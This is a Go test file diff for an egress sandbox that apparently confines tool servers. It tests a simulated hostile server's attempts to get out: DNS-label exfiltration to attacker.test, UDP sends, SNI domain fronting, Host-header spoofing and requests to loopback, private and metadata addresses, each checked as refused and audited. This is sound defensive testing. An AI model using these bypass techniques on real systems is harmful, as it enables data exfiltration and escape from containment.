@@ -3,12 +3,14 @@ package main
 import (
 	"encoding/json"
 	"fmt"
+	"maps"
 	"net"
 	"net/netip"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -28,6 +30,7 @@ import (
 // routed to the servers on 127.0.0.1.
 var (
 	apiAddr  = netip.MustParseAddr("203.0.113.1") // api.example.test
+	webAddr  = netip.MustParseAddr("203.0.113.3") // web.example.test, plain HTTP
 	cdnAddr  = netip.MustParseAddr("203.0.113.2") // a.cdn.test, b.cdn.test
 	evilAddr = netip.MustParseAddr("203.0.113.9") // evil.test, x.evil.test, a.b.cdn.test
 )
@@ -36,6 +39,7 @@ var (
 type egressNet struct {
 	dns   *egresstest.DNS
 	api   *egresstest.Server   // api.example.test:443
+	web   *egresstest.Server   // web.example.test:80
 	cdn   *egresstest.Server   // *.cdn.test:443
 	evil  *egresstest.Server   // evil.test:443: no main rule names it
 	inner *egresstest.Server   // what loopback, private and metadata names resolve to
@@ -53,6 +57,7 @@ func newEgressNet(t *testing.T) *egressNet {
 	n := &egressNet{
 		dns: egresstest.NewDNS(t, map[string][]netip.Addr{
 			"api.example.test":     {apiAddr},
+			"web.example.test":     {webAddr},
 			"a.cdn.test":           {cdnAddr},
 			"b.cdn.test":           {cdnAddr},
 			"evil.test":            {evilAddr},
@@ -66,9 +71,10 @@ func newEgressNet(t *testing.T) *egressNet {
 			"ungranted.example.test":    {evilAddr},
 		}),
 		api:   egresstest.NewHTTPS(t, "api.example.test"),
+		web:   egresstest.NewHTTP(t),
 		cdn:   egresstest.NewHTTPS(t, "a.cdn.test", "b.cdn.test"),
 		evil:  egresstest.NewHTTPS(t, "evil.test", "x.evil.test", "a.b.cdn.test", "api.example.test"),
-		inner: egresstest.NewHTTPS(t, "loop.example.test", "private.example.test", "meta.example.test", "10.1.2.3"),
+		inner: egresstest.NewHTTPS(t, "loop.example.test", "private.example.test", "meta.example.test", "10.1.2.3", "127.0.0.1", "169.254.169.254"),
 		alt:   egresstest.NewListener(t, nil),
 		near:  egresstest.NewListener(t, nil),
 		udp:   newUDPCatcher(t),
@@ -93,6 +99,8 @@ func newEgressNet(t *testing.T) *egressNet {
 	}
 	route(apiAddr, 443, n.api.Addr)
 	route(apiAddr, 8443, n.alt.Addr)
+	route(webAddr, 80, n.web.Addr)
+	route(evilAddr, 80, n.web.Addr)
 	route(cdnAddr, 443, n.cdn.Addr)
 	route(evilAddr, 443, n.evil.Addr)
 	for _, a := range []string{"127.0.0.1", "10.1.2.3", "169.254.169.254"} {
@@ -247,14 +255,19 @@ func (s *session) try(args map[string]any) string {
 	return resultText(s.call(id, "tools/call", string(b)))
 }
 
-// mainHosts are the rules of the cell under attack.
-const mainHosts = `hosts = ["api.example.test:443", "*.cdn.test:443", "loop.example.test:443", "private.example.test:443", "meta.example.test:443"]`
+// mainHosts are the rules of the cell under attack. The rules on the
+// ports of the host side's listeners, and on 8443, open those ports in
+// Landlock, so that only the namespace stands between the server and
+// them.
+func (n *egressNet) mainHosts() string {
+	return fmt.Sprintf(`hosts = ["api.example.test:443", "web.example.test:80", "*.cdn.test:443", "loop.example.test:443", "private.example.test:443", "meta.example.test:443", "near.example.test:%d", "wide.example.test:%d", "other.example.test:8443"]`, n.near.Addr.Port(), n.wide.Addr.Port())
+}
 
 // counts are what every server and listener of the test's internet has
 // seen, to compare before and after an attempt.
 func (n *egressNet) counts() map[string]int {
 	return map[string]int{
-		"api": n.api.Conns(), "cdn": n.cdn.Conns(), "evil": n.evil.Conns(), "inner": n.inner.Conns(),
+		"api": n.api.Conns(), "web": n.web.Conns(), "cdn": n.cdn.Conns(), "evil": n.evil.Conns(), "inner": n.inner.Conns(),
 		"alt": n.alt.Conns(), "near": n.near.Conns(), "wide": n.wide.Conns(),
 		"udp": len(n.udp.datagrams()), "dns": len(n.dns.Queries()),
 	}
@@ -296,7 +309,7 @@ func egressRecords(t *testing.T, profile string) []audit.Record {
 // one allow record for each, by the way it came.
 func TestEgressGrantedWays(t *testing.T) {
 	n := newEgressNet(t)
-	path := n.profile(t, mainHosts)
+	path := n.profile(t, n.mainHosts())
 	s := n.start(t, path)
 	curl, errCurl := exec.LookPath("curl")
 	node, errNode := exec.LookPath("node")
@@ -357,5 +370,185 @@ func (s *session) stop() {
 	s.in.Close()
 	if err := s.cmd.Wait(); err != nil {
 		s.t.Fatalf("mcpcell: %v\n%s", err, s.stderr.String())
+	}
+}
+
+// egressAttempt is one way out a hostile server tries.
+type egressAttempt struct {
+	name string
+	args map[string]any
+	want string // the start of the try's answer
+	// reached is what the test's internet saw ("server+N", sorted): in a
+	// cell that refuses, nothing but the relay's own lookups.
+	reached []string
+	// record is the egress audit record the attempt makes, as "method
+	// subject decision", "" for none (the relay never saw it).
+	record string
+}
+
+// refusedAttempts are what the cell of mainHosts refuses; the control
+// runs each again where it goes through (TestEgressControls).
+func refusedAttempts(n *egressNet) []egressAttempt {
+	tcp := func(at string) map[string]any { return map[string]any{"what": "tcp", "target": at} }
+	tlsTo := func(at, sni string) map[string]any {
+		return map[string]any{"what": "tls", "target": at, "sni": sni, "ca": n.ca}
+	}
+	connect := func(at, sni string) map[string]any {
+		return map[string]any{"what": "connect", "target": at, "sni": sni, "ca": n.ca}
+	}
+	raw := func(at, data string) map[string]any { return map[string]any{"what": "raw", "target": at, "data": data} }
+	get := func(url string) map[string]any { return map[string]any{"what": "get", "target": url, "ca": n.ca} }
+	dns := func(over, server, name string) map[string]any {
+		return map[string]any{"what": over, "target": server, "data": name}
+	}
+	const proxy = "127.0.0.1:3128"
+	return []egressAttempt{
+		{name: "a literal address: the host side's 127.0.0.1", args: tcp(n.near.Addr.String()), want: "denied: dial tcp " + n.near.Addr.String() + ": connect: connection refused"},
+		{name: "a literal address: the host's own", args: tcp(n.wide.Addr.String()), want: "denied: dial tcp " + n.wide.Addr.String() + ": connect: network is unreachable"},
+		{name: "a granted name on another port", args: tcp("api.example.test:8443"), want: "denied: dial tcp 127.77.0.1:8443: connect: connection refused"},
+		{name: "a granted name on another port, CONNECT", args: connect("api.example.test:8443", "api.example.test"), want: "denied: the proxy: 403 Forbidden", record: "egress/proxy api.example.test:8443 deny"},
+		{name: "a wildcard with a name it does not cover", args: tlsTo("a.cdn.test:443", "x.evil.test"), want: "denied: TLS: ", record: "egress/transparent :443 deny"},
+		{name: "a wildcard with two labels", args: tlsTo("a.cdn.test:443", "a.b.cdn.test"), want: "denied: TLS: ", record: "egress/transparent :443 deny"},
+		{name: "CONNECT to a name no rule grants", args: connect("evil.test:443", "evil.test"), want: "denied: the proxy: 403 Forbidden", record: "egress/proxy evil.test:443 deny"},
+		{name: "CONNECT to a granted name, another in TLS (fronting)", args: connect("api.example.test:443", "evil.test"), want: "denied: TLS: ", record: "egress/proxy api.example.test:443 deny"},
+		{name: "a granted name's listener, a granted other name in TLS", args: tlsTo("api.example.test:443", "b.cdn.test"), want: "denied: TLS: ", record: "egress/transparent api.example.test:443 deny"},
+		{name: "UDP to the host side", args: map[string]any{"what": "udp", "target": n.udp.Addr.String(), "data": "exfiltrated"}, want: "ok: sent"},
+		{name: "a name that resolves to loopback", args: get("https://loop.example.test/"), want: "denied: ", reached: []string{"dns+2"}, record: "egress/transparent loop.example.test:443 deny"},
+		{name: "a name that resolves to a private address", args: get("https://private.example.test/"), want: "denied: ", reached: []string{"dns+2"}, record: "egress/transparent private.example.test:443 deny"},
+		{name: "a name that resolves to the metadata address", args: get("https://meta.example.test/"), want: "denied: ", reached: []string{"dns+2"}, record: "egress/transparent meta.example.test:443 deny"},
+		{name: "DNS: a name no rule grants", args: dns("dns", n.stub, "ungranted.example.test"), want: "ok: RCodeNameError []"},
+		{name: "DNS: data as labels", args: dns("dns", n.stub, "secret-data.attacker.test"), want: "ok: RCodeNameError []"},
+		{name: "DNS over TCP: data as labels", args: dns("dns-tcp", n.stub, "secret-data.attacker.test"), want: "ok: RCodeNameError []"},
+		{name: "DNS: the Go resolver", args: map[string]any{"what": "lookup", "target": "secret-data.attacker.test"}, want: "denied: lookup secret-data.attacker.test on " + n.stub + ": no such host"},
+		{name: "DNS: straight to the host side's server", args: dns("dns", n.dns.Addr.String(), "secret-data.attacker.test"), want: "denied: "},
+		{name: "HTTP: absolute form to a name no rule grants", args: raw(proxy, "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"), want: "ok: HTTP/1.1 403 Forbidden", record: "egress/proxy evil.test:80 deny"},
+		{name: "HTTP: a granted name's listener, another Host", args: raw("web.example.test:80", "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"), want: "ok: HTTP/1.1 403 Forbidden", record: "egress/transparent web.example.test:80 deny"},
+	}
+}
+
+// A hostile server in a cell of mainHosts tries each way out that no
+// rule grants: each is refused, the server or listener that would have
+// received it sees nothing (the relay's own lookups of granted names
+// aside), and the relay writes one deny record for each connection it
+// saw, and the refused DNS names counted per name and second.
+// egressControls runs the same attempts where they go through.
+func TestEgressRefusedWays(t *testing.T) {
+	n := newEgressNet(t)
+	path := n.profile(t, n.mainHosts())
+	s := n.start(t, path)
+	var want []string
+	first, all := n.counts(), map[string]int{}
+	for _, a := range refusedAttempts(n) {
+		t.Run(a.name, func(t *testing.T) {
+			before := n.counts()
+			if got := s.try(a.args); !strings.HasPrefix(got, a.want) {
+				t.Errorf("%s, want %s…", got, a.want)
+			}
+			if got := reached(before, n.counts()); !slices.Equal(got, a.reached) {
+				t.Errorf("reached %v, want %v", got, a.reached)
+			}
+			if a.record != "" {
+				want = append(want, a.record)
+			}
+			for _, r := range a.reached {
+				k, v, _ := strings.Cut(r, "+")
+				d, _ := strconv.Atoi(v)
+				all[k] += d
+			}
+		})
+	}
+	if q := n.dns.Queries(); slices.ContainsFunc(q, func(q string) bool { return !strings.Contains(q, ".example.test") }) {
+		t.Errorf("the host side's DNS server saw %v: the stub forwarded a name", q)
+	}
+	s.stop()
+	// Nothing reached anything late either, once the relay has closed.
+	if got, want := reached(first, n.counts()), reached(map[string]int{}, all); !slices.Equal(got, want) {
+		t.Errorf("all attempts reached %v, want %v", got, want)
+	}
+	var got []string
+	dnsCount := map[string]int{}
+	for _, r := range egressRecords(t, path) {
+		if r.Method == "egress/dns" {
+			if r.Decision != "deny" || r.Count < 1 {
+				t.Errorf("DNS record %+v: want deny with a count", r)
+			}
+			dnsCount[r.Subject] += r.Count
+			continue
+		}
+		got = append(got, r.Method+" "+r.Subject+" "+r.Decision)
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("egress records:\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+	// Asked three times: by UDP, by TCP, by the Go resolver (A only).
+	if want := map[string]int{"ungranted.example.test": 1, "secret-data.attacker.test": 3}; !maps.Equal(dnsCount, want) {
+		t.Errorf("refused DNS names: %v, want %v", dnsCount, want)
+	}
+}
+
+// The controls of TestEgressRefusedWays: each attempt it refuses goes
+// through without the namespace (a cell of ports and UDP, no hosts) or
+// with the rule granted, and reaches the server or listener that the
+// refusal kept it from; so a refusal there is the cell's doing.
+func TestEgressControls(t *testing.T) {
+	n := newEgressNet(t)
+	tcp := func(at string) map[string]any { return map[string]any{"what": "tcp", "target": at} }
+	tlsTo := func(at, sni string) map[string]any {
+		return map[string]any{"what": "tls", "target": at, "sni": sni, "ca": n.ca}
+	}
+	connect := func(at, sni string) map[string]any {
+		return map[string]any{"what": "connect", "target": at, "sni": sni, "ca": n.ca}
+	}
+	raw := func(at, data string) map[string]any { return map[string]any{"what": "raw", "target": at, "data": data} }
+	get := func(url string) map[string]any { return map[string]any{"what": "get", "target": url, "ca": n.ca} }
+	const proxy = "127.0.0.1:3128"
+	cells := []struct {
+		name, network string
+		attempts      []egressAttempt
+	}{
+		{
+			name:    "no namespace: ports and UDP",
+			network: fmt.Sprintf("ports = [%d, %d]\nudp = true", n.near.Addr.Port(), n.wide.Addr.Port()),
+			attempts: []egressAttempt{
+				{name: "a literal address: the host side's 127.0.0.1", args: tcp(n.near.Addr.String()), want: "ok: connected", reached: []string{"near+1"}},
+				{name: "a literal address: the host's own", args: tcp(n.wide.Addr.String()), want: "ok: connected", reached: []string{"wide+1"}},
+				{name: "UDP to the host side", args: map[string]any{"what": "udp", "target": n.udp.Addr.String(), "data": "exfiltrated"}, want: "ok: sent", reached: []string{"udp+1"}},
+				{name: "DNS: straight to the host side's server", args: map[string]any{"what": "dns", "target": n.dns.Addr.String(), "data": "secret-data.attacker.test"}, want: "ok: RCodeSuccess [203.0.113.9]", reached: []string{"dns+1"}},
+			},
+		},
+		{
+			name:    "the rules granted",
+			network: `hosts = ["api.example.test:443", "api.example.test:8443", "web.example.test:80", "*.cdn.test:443", "evil.test:443", "evil.test:80", "10.1.2.3:443", "127.0.0.1:443", "169.254.169.254:443", "ungranted.example.test:443"]`,
+			attempts: []egressAttempt{
+				{name: "a granted name on another port", args: raw("api.example.test:8443", "ping"), want: "ok: ping", reached: []string{"alt+1", "dns+2"}},
+				{name: "a granted name on another port, CONNECT", args: raw(proxy, "CONNECT api.example.test:8443 HTTP/1.1\r\nHost: api.example.test:8443\r\n\r\nping"), want: "ok: HTTP/1.1 200 Connection Established\r\n\r\nping", reached: []string{"alt+1", "dns+2"}},
+				{name: "a wildcard with a name it covers", args: tlsTo("a.cdn.test:443", "b.cdn.test"), want: "ok: 200 hello from b.cdn.test", reached: []string{"cdn+1", "dns+2"}},
+				{name: "CONNECT to a name a rule grants", args: connect("evil.test:443", "evil.test"), want: "ok: 200 hello from evil.test", reached: []string{"dns+2", "evil+1"}},
+				{name: "CONNECT to a granted name, the same in TLS", args: connect("api.example.test:443", "api.example.test"), want: "ok: 200 hello from api.example.test", reached: []string{"api+1", "dns+2"}},
+				{name: "a granted name's listener, the same in TLS", args: tlsTo("api.example.test:443", "api.example.test"), want: "ok: 200 hello from api.example.test", reached: []string{"api+1", "dns+2"}},
+				{name: "a rule naming the loopback address", args: tlsTo("127.0.0.1:443", "-"), want: "ok: 200 hello from ", reached: []string{"inner+1"}},
+				{name: "a rule naming the private address", args: get("https://10.1.2.3/"), want: "ok: 200 hello from 10.1.2.3", reached: []string{"inner+1"}},
+				{name: "a rule naming the metadata address", args: tlsTo("169.254.169.254:443", "-"), want: "ok: 200 hello from ", reached: []string{"inner+1"}},
+				{name: "DNS: a name a rule grants", args: map[string]any{"what": "dns", "target": n.stub, "data": "ungranted.example.test"}, want: "ok: RCodeSuccess [127.77.0."},
+				{name: "HTTP: absolute form to a name a rule grants", args: raw(proxy, "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"), want: "ok: HTTP/1.1 200 OK", reached: []string{"dns+2", "web+1"}},
+				{name: "HTTP: a granted name's listener, its own Host", args: raw("web.example.test:80", "GET / HTTP/1.1\r\nHost: web.example.test\r\n\r\n"), want: "ok: HTTP/1.1 200 OK", reached: []string{"dns+2", "web+1"}},
+			},
+		},
+	}
+	for _, cell := range cells {
+		t.Run(cell.name, func(t *testing.T) {
+			s := n.start(t, n.profile(t, cell.network))
+			for _, a := range cell.attempts {
+				t.Run(a.name, func(t *testing.T) {
+					before := n.counts()
+					if got := s.try(a.args); !strings.HasPrefix(got, a.want) {
+						t.Errorf("%s, want %s…", got, a.want)
+					}
+					if got := reached(before, n.counts()); !slices.Equal(got, a.reached) {
+						t.Errorf("reached %v, want %v", got, a.reached)
+					}
+				})
+			}
+		})
 	}
 }
